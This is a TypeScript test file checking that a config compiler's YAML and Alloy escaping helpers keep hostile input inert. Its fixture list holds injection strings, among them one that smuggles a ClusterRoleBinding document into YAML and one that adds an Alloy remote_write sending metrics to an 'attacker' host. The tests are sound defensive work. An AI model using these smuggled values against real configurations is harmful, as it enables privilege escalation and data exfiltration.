// Render: values reach YAML and Alloy only through escaping helpers, literal
// {{ }} the output itself needs survive, and hostile strings stay strings.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { parse, parseAllDocuments } from 'yaml';
import { loadSpecSource } from '../compiler/load.ts';
import { buildModel } from '../compiler/model/index.ts';
import { createEngine, render } from '../compiler/render/index.ts';
import { validateSpec } from '../compiler/validate/index.ts';
import { readFileSync } from 'node:fs';
import { compile, yamlDocs } from './helpers/compile.ts';
import { fromRoot } from './helpers/paths.ts';
import { checkAlloy } from '../compiler/verify/alloy.ts';

const HOSTILE = [
  'a"b',
  "it's",
  'x\n  labels:\n    evil: "true"',
  'pw\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding',
  'abc #comment: x',
  '{{ .server }} {{{raw}}} ${HOME} $${x}',
  'yes',
  'NO',
  'on',
  '1:30',
  '2024-01-01',
  '0800',
  '~',
  'null',
  '- item',
  '? key',
  '& anchor',
  '* alias',
  '!tag',
  '%directive',
  '@at',
  '`tick`',
  '\u2028line\u2029sep \u202Ebidi \u0000nul \t tab \\ backslash',
  'x"\n}\nprometheus.remote_write "evil" {\n  endpoint { url = "http://attacker" }\n}\n//',
];

test('the yaml helper turns every hostile string into the same string after parsing (YAML 1.2 and 1.1)', () => {
  const t = createEngine().compile('key: {{yaml v}}\nother: fixed\n', { noEscape: true, strict: true });
  for (const v of HOSTILE) {
    const text = t({ v });
    for (const version of ['1.2', '1.1'] as const) {
      const docs = parseAllDocuments(text, { version });
      assert.is(Array.isArray(docs) ? docs.length : 1, 1, `one document for ${JSON.stringify(v)}`);
      assert.equal(parse(text, { version }), { key: v, other: 'fixed' }, `${JSON.stringify(v)} under YAML ${version}`);
    }
  }
});

test('the alloy helper keeps hostile strings inside one Alloy string literal', () => {
  const t = createEngine().compile('prometheus.remote_write "x" {\n  endpoint {\n    url = {{{alloy v}}}\n  }\n}\n', {
    noEscape: true,
    strict: true,
  });
  for (const v of HOSTILE.filter((s) => !s.includes('\u0000'))) {
    const text = t({ v });
    assert.equal(checkAlloy(text), [], `structurally valid for ${JSON.stringify(v)}`);
    assert.is((text.match(/^prometheus\.remote_write/gm) ?? []).length, 1, 'no second component');
  }
});

test('strict rendering: a missing value is an error, not an empty string', () => {
  const viaHelper = createEngine().compile('namespace: {{yaml ns}}\n', { noEscape: true, strict: true });
  assert.throws(() => viaHelper({}), /value the model does not have/);
  const bare = createEngine().compile('namespace: {{ns}}\n', { noEscape: true, strict: true });
  assert.throws(() => bare({}), /"ns" not defined/);
});

test('literal {{ }} the output needs survive: ArgoCD goTemplate fields, alert annotations, Grafana legends', () => {
  const c = compile('spec/fabric.yaml');
  const docs = yamlDocs(c.files);
  const appset = docs.find((d) => d.doc.kind === 'ApplicationSet' && d.doc.metadata.name === 'alloy-agents')!.doc;
  assert.is(appset.spec.template.metadata.name, '{{.values.component}}-{{.name}}');
  assert.is(appset.spec.template.spec.destination.server, '{{.server}}');
  assert.is(appset.spec.template.spec.source.path, 'gitops/components/{{.values.component}}/overlays/{{.name}}');
  const rule = docs.find((d) => d.doc.kind === 'PrometheusRule')!.doc;
  assert.ok(rule.spec.groups[0].rules.some((r: any) => r.annotations.summary.startsWith('{{ $labels.job }}')));
  const red = JSON.parse(c.files.find((f) => f.path.endsWith('/red.json'))!.contents);
  assert.is(red.panels[0].targets[0].legendFormat, '{{cluster}} {{job}}');
  assert.is(red.templating.list[0].datasource, undefined);
  assert.is(red.panels[0].datasource.uid, '${env}', 'panels keep the variable reference, not $$-escaped');
  const ds = docs.find((d) => d.path.endsWith('datasources.yaml'))!.doc;
  const loki = ds.datasources.find((x: any) => x.type === 'loki');
  assert.is(loki.jsonData.derivedFields[0].url, '$${__value.raw}', 'Grafana provisioning needs $ escaped as $$');
});

function hostileSpec(): string {
  let src = readFileSync(fromRoot('spec/fabric.yaml'), 'utf8');
  src = src.replace(
    'repoURL: https://github.com/you/fabric-gitops.git',
    `repoURL: "https://evil.example/a'b#c$d!e(f)*g;h=i&j%41--k/---/x?q=1#frag"`,
  );
  src = src.replace('revision: main', 'revision: "feat/x---y"\n  path: "deploy/lab-1"');
  src = src.replace(
    '  prod-cluster:\n    role: member\n    environment: prod\n    ip: 192.168.200.12\n    cpus: 2\n    memory: 3g',
    `  prod-cluster:\n    role: member\n    environment: prod\n    provider: existing\n    ip: 192.168.200.12\n    context: "user@arn:aws:eks:eu/x---y"\n    server: "https://h.example:443/p'q#r$s---t"\n    egressCIDRs: [203.0.113.7/32]`,
  );
  // An existing member needs an ingest address it can reach and a registry for the demo image (FAB250, FAB255).
  src = src.replace(
    '    role: monitoring\n    ip: 192.168.200.13\n',
    '    role: monitoring\n    ip: 192.168.200.13\n    ingest: { url: "https://ingest.x---y.example:8443", tls: { secret: ingest-tls } }\n',
  );
  src = src.replace(
    '  subnet: 192.168.200.0/24\n',
    '  subnet: 192.168.200.0/24\n  registry: "registry.example:5000/x---y"\n',
  );
  return src;
}

test('hostile strings that the schema admits come out as the same inert strings everywhere they are used', () => {
  const loaded = loadSpecSource(hostileSpec(), 'hostile.yaml');
  assert.ok(loaded.loaded, JSON.stringify(loaded.diagnostics));
  const v = validateSpec(loaded.loaded!);
  assert.ok(v.spec, JSON.stringify(v.diagnostics, null, 1));
  const files = render(buildModel(v.spec!, 'hostile.yaml'));
  const docs = yamlDocs(files); // every YAML file parses
  const repoURL = "https://evil.example/a'b#c$d!e(f)*g;h=i&j%41--k/---/x?q=1#frag";
  const server = "https://h.example:443/p'q#r$s---t";
  const sources = docs.filter((d) => d.doc.kind === 'ApplicationSet').map((d) => d.doc.spec.template.spec.source);
  assert.ok(
    sources
      .filter((s) => s.repoURL !== 'https://github.com/prometheus-operator/prometheus-operator.git')
      .every((s) => s.repoURL === repoURL && s.targetRevision === 'feat/x---y'),
  );
  // Every project but ArgoCD's `default`, which fabric renders locked down (no repository).
  const projects = docs.filter((d) => d.doc.kind === 'AppProject' && d.doc.metadata.name !== 'default');
  assert.ok(projects.length > 1 && projects.every((p) => p.doc.spec.sourceRepos.includes(repoURL)));
  const prod = projects.find((p) => p.doc.metadata.name === 'env-prod')!.doc;
  assert.ok(prod.spec.destinations.every((d: any) => d.server === server));
  assert.ok(
    sources.filter((s) => s.path.includes('components/')).every((s) => s.path.startsWith('deploy/lab-1/gitops/')),
  );
  // No document boundary or key smuggled in: every file is exactly the documents fabric meant.
  const kinds = docs.map((d) => d.doc.kind).filter(Boolean);
  assert.not.ok(
    kinds.includes('ClusterRoleBinding') &&
      docs.some((d) => d.doc.kind === 'ClusterRoleBinding' && !String(d.doc.metadata.name).startsWith('fabric-')),
  );
});

test.run();
